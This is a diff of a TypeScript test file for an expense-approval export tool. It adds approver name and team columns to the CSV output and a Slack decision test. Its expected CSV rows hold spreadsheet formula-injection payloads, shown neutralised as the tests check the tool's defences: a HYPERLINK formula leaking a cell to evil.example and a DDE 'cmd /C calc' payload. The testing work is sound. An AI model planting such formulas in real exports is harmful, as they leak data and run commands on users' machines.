@@ -170,17 +170,17 @@ const IN_RANGE = [
 ];
 
 const HEADER =
-  "execution_name,execution_arn,recorded_at,kind,stage,mechanism,decision,approved,approver,comment,decided_at,request_title,request_id,requester,amount,currency,workflow_version,stage_approvers,error,record_key";
+  "execution_name,execution_arn,recorded_at,kind,stage,mechanism,decision,approved,approver,comment,decided_at,request_title,request_id,requester,amount,currency,workflow_version,stage_approvers,error,record_key,approver_name,approver_team";
 const EXPECTED_CSV = [
   HEADER,
-  `er1002,${arnOf("er1002")},2026-01-05T09:00:00.000Z,decision,manager,ssm-automation,rejected,false,${ALICE},"'=HYPERLINK(""https://evil.example/?leak=""&A1,""details"")",2026-01-05T08:59:59.000Z,"Team dinner, Q4",ER1002,Sam <sam@example.com>,900,EUR,${V1},arn:aws:iam::123456789012:role/ReleaseApprover; ${ALICE},,records/2026-01-05/er1002/2026-01-05T09:00:00.000Z-decision-manager.json`,
-  `er1002,${arnOf("er1002")},2026-01-05T09:00:00.500Z,outcome,,,rejected,false,,,,"Team dinner, Q4",ER1002,Sam <sam@example.com>,900,EUR,${V1},,,records/2026-01-05/er1002/2026-01-05T09:00:00.500Z-outcome.json`,
-  `er1001,${arnOf("er1001")},2026-01-05T10:00:00.000Z,decision,manager,ssm-automation,approved,true,${ALICE},receipts checked,2026-01-05T09:59:59.000Z,Expense report ER1001,ER1001,Jane Doe <jane@example.com>,750.5,USD,${V1},arn:aws:iam::123456789012:role/ReleaseApprover; ${ALICE},,records/2026-01-05/er1001/2026-01-05T10:00:00.000Z-decision-manager.json`,
-  `er1001,${arnOf("er1001")},2026-01-06T08:00:00.000Z,decision,finance,codepipeline,approved,true,${BOB},"ok, ""fine""\nsee the note",2026-01-06T07:59:59.000Z,Expense report ER1001,ER1001,Jane Doe <jane@example.com>,750.5,USD,${V1},arn:aws:iam::123456789012:role/FinanceApprover,,records/2026-01-06/er1001/2026-01-06T08:00:00.000Z-decision-finance.json`,
-  `er1001,${arnOf("er1001")},2026-01-06T08:00:01.000Z,outcome,,,approved,true,,,,Expense report ER1001,ER1001,Jane Doe <jane@example.com>,750.5,USD,${V1},,,records/2026-01-06/er1001/2026-01-06T08:00:01.000Z-outcome.json`,
-  `er1000,${arnOf("er1000")},2026-01-06T12:00:00.000Z,outcome,,,auto_approved,true,,,,Taxi,,,42,,${V1},,,records/2026-01-06/er1000/2026-01-06T12:00:00.000Z-outcome.json`,
-  `er1003,${arnOf("er1003")},2026-01-06T12:00:00.000Z,outcome,,,auto_approved,true,,,,Taxi,,,42,,${V1},,,records/2026-01-06/er1003/2026-01-06T12:00:00.000Z-outcome.json`,
-  `er1004,${arnOf("er1004")},2026-02-10T07:00:00.000Z,outcome,,,failed,false,,,,'@SUM(1+1)*cmd|' /C calc'!A0,'\tER1004,'-2+3,-5,,${V1},,States.Runtime,records/2026-02-10/er1004/2026-02-10T07:00:00.000Z-outcome.json`,
+  `er1002,${arnOf("er1002")},2026-01-05T09:00:00.000Z,decision,manager,ssm-automation,rejected,false,${ALICE},"'=HYPERLINK(""https://evil.example/?leak=""&A1,""details"")",2026-01-05T08:59:59.000Z,"Team dinner, Q4",ER1002,Sam <sam@example.com>,900,EUR,${V1},arn:aws:iam::123456789012:role/ReleaseApprover; ${ALICE},,records/2026-01-05/er1002/2026-01-05T09:00:00.000Z-decision-manager.json,,`,
+  `er1002,${arnOf("er1002")},2026-01-05T09:00:00.500Z,outcome,,,rejected,false,,,,"Team dinner, Q4",ER1002,Sam <sam@example.com>,900,EUR,${V1},,,records/2026-01-05/er1002/2026-01-05T09:00:00.500Z-outcome.json,,`,
+  `er1001,${arnOf("er1001")},2026-01-05T10:00:00.000Z,decision,manager,ssm-automation,approved,true,${ALICE},receipts checked,2026-01-05T09:59:59.000Z,Expense report ER1001,ER1001,Jane Doe <jane@example.com>,750.5,USD,${V1},arn:aws:iam::123456789012:role/ReleaseApprover; ${ALICE},,records/2026-01-05/er1001/2026-01-05T10:00:00.000Z-decision-manager.json,,`,
+  `er1001,${arnOf("er1001")},2026-01-06T08:00:00.000Z,decision,finance,codepipeline,approved,true,${BOB},"ok, ""fine""\nsee the note",2026-01-06T07:59:59.000Z,Expense report ER1001,ER1001,Jane Doe <jane@example.com>,750.5,USD,${V1},arn:aws:iam::123456789012:role/FinanceApprover,,records/2026-01-06/er1001/2026-01-06T08:00:00.000Z-decision-finance.json,,`,
+  `er1001,${arnOf("er1001")},2026-01-06T08:00:01.000Z,outcome,,,approved,true,,,,Expense report ER1001,ER1001,Jane Doe <jane@example.com>,750.5,USD,${V1},,,records/2026-01-06/er1001/2026-01-06T08:00:01.000Z-outcome.json,,`,
+  `er1000,${arnOf("er1000")},2026-01-06T12:00:00.000Z,outcome,,,auto_approved,true,,,,Taxi,,,42,,${V1},,,records/2026-01-06/er1000/2026-01-06T12:00:00.000Z-outcome.json,,`,
+  `er1003,${arnOf("er1003")},2026-01-06T12:00:00.000Z,outcome,,,auto_approved,true,,,,Taxi,,,42,,${V1},,,records/2026-01-06/er1003/2026-01-06T12:00:00.000Z-outcome.json,,`,
+  `er1004,${arnOf("er1004")},2026-02-10T07:00:00.000Z,outcome,,,failed,false,,,,'@SUM(1+1)*cmd|' /C calc'!A0,'\tER1004,'-2+3,-5,,${V1},,States.Runtime,records/2026-02-10/er1004/2026-02-10T07:00:00.000Z-outcome.json,,`,
   "",
 ].join("\r\n");
 
@@ -301,6 +301,36 @@ describe("approvals export and show from the decision record (fake S3)", functio
         "",
       ].join("\n"),
     });
+  });
+
+  it("puts a slack decision's approver name and team in the last two columns (a name is guarded like any text)", async () => {
+    const slack = {
+      ...base("er1010", "2026-01-07T10:00:00.000Z", TAXI, "2026-01-07T09:00:00.000Z"),
+      kind: "decision" as const,
+      stage: "manager",
+      mechanism: "slack" as const,
+      approvers: ["U0ALICE", "U0BOB"],
+      decision: "approved" as const,
+      approved: true,
+      approver: "U0BOB",
+      approverName: "=Bob, the Builder",
+      approverTeam: "T0FAKETEAM",
+      comment: null,
+      decidedAt: "2026-01-07T09:59:59Z",
+    };
+    s3.put(BUCKET, keyOf(slack), JSON.stringify(slack));
+    const day = ["--from", "2026-01-07", "--to", "2026-01-07"];
+    const csv = await run(["export", "--bucket", BUCKET, ...day, "--format", "csv"]);
+    expect(csv.code).to.equal(0);
+    expect(csv.stdout).to.equal(
+      [
+        HEADER,
+        `er1010,${arnOf("er1010")},2026-01-07T10:00:00.000Z,decision,manager,slack,approved,true,U0BOB,,2026-01-07T09:59:59Z,Taxi,,,42,,${V1},U0ALICE; U0BOB,,${keyOf(slack)},"'=Bob, the Builder",T0FAKETEAM`,
+        "",
+      ].join("\r\n"),
+    );
+    const json = await run(["export", "--bucket", BUCKET, ...day, "--format", "json"]);
+    expect(JSON.parse(json.stdout)).to.deep.equal([slack]);
   });
 
   it("guards every text cell a spreadsheet would run as a formula with a leading apostrophe, and quotes per RFC 4180", () => {
